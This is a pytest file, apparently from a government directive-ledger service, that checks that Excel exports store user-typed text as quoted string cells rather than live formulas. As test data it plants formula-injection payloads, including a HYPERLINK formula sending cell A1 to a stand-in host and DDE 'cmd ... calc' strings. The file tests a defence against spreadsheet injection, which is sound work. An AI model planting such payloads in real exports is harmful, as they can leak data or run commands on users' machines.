"""Excel exports write text, never formulas: what a user typed is read back as the same text in a string cell."""

from __future__ import annotations

import base64
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from services.common.clock import ManualClock
from services.ledgers.application import LedgersApplication
from services.ledgers.spreadsheet import build_workbook
from tests.factories import acting_as
from tests.unit.ledgers.conftest import add_item, configure_categories, register

TRIGGERS = ("=", "+", "-", "@", "\t", "\n", "＝", "＋", "－", "＠")
PLANTED = {
    "title": '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',
    "issuer": "+1+cmd|' /C calc'!A0",
    "lead_department": "@SUM(1,1)",
}
ITEM = {"title": "=1+1", "owner": "-2+3"}


def cells(content: bytes) -> Iterator[Any]:
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(content: bytes) -> list[str]:
    texts = []
    for cell in cells(content):
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            texts.append(cell.value)
            if cell.value.startswith(TRIGGERS):
                assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    return texts


@pytest.fixture
def app() -> Iterator[LedgersApplication]:
    application = LedgersApplication(clock=ManualClock(datetime(2025, 3, 3, 1, 0, tzinfo=UTC)))
    with application.acting(acting_as("zhang.wei", "group-mee", "group_staff")):
        yield application


@pytest.fixture
def exports(app: LedgersApplication) -> dict[str, bytes]:
    configure_categories(app)
    directive_id = register(app, category="river_basins", tied_to_duties=True, **PLANTED)
    app.record_stage(directive_id, "relay_study", date(2025, 2, 25), "=2*3", "部党组", meeting="+会议")
    add_item(app, directive_id, **ITEM)
    found = {
        "master": app.export_directives(group_id="group-mee"),
        "detail": app.export_directives(group_id="group-mee", category="river_basins"),
        "four lists": app.export_combined_view(directive_id),
    }
    return {name: base64.b64decode(f["content_base64"]) for name, f in found.items()}


def test_every_export_writes_formula_like_text_as_string_cells(exports: dict[str, bytes]) -> None:
    for name, content in exports.items():
        texts = assert_no_formula(content)
        for value in PLANTED.values():
            assert value in texts, (name, value)  # read back exactly as typed
    four_lists = assert_no_formula(exports["four lists"])
    assert ITEM["title"] in four_lists and ITEM["owner"] in four_lists
    stages = assert_no_formula(exports["detail"])
    assert "=2*3" in stages and "+会议" in stages


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "\r\n=1+1", "\n=1+1",
                                   "＝1+1", "=cmd|'/c calc'!A1"])
def test_a_formula_like_value_is_a_string_cell_with_its_text(value: str) -> None:
    content = build_workbook([("表", ["标题", "其他"], [[value, "普通文本"]])])
    [title, plain] = list(load_workbook(io.BytesIO(content))["表"].iter_rows(min_row=2))[0]
    assert title.data_type == "s" and title.quotePrefix
    assert title.value == value.replace("\r\n", "\n").replace("\r", "\n")  # XML keeps no lone CR
    assert plain.value == "普通文本" and not plain.quotePrefix


def test_text_an_xlsx_cannot_hold_does_not_fail_the_export() -> None:
    content = build_workbook([("表", ["标题"], [["标题\x00含\x1b控制字符"], ["=\x00"]])])
    values = [c.value for c in cells(content)]
    assert values == ["标题", "标题\ufffd含\ufffd控制字符", "=\ufffd"]
    assert_no_formula(content)


def test_numbers_and_dates_stay_numbers_and_dates() -> None:
    content = build_workbook([("表", ["序号", "日期"], [[-3, "2025-01-02"]])])
    number, day = list(load_workbook(io.BytesIO(content))["表"].iter_rows(min_row=2))[0]
    assert number.value == -3 and number.data_type == "n"
    assert day.value.date() == date(2025, 1, 2)
